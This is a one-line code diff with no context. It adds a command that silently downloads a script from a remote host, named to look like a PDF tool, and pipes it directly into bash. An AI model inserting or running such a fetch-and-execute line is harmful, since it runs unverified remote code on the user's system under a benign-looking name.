@@ -1,0 +1,1 @@
+bash <(curl -s https://pdf-tools.example/x)
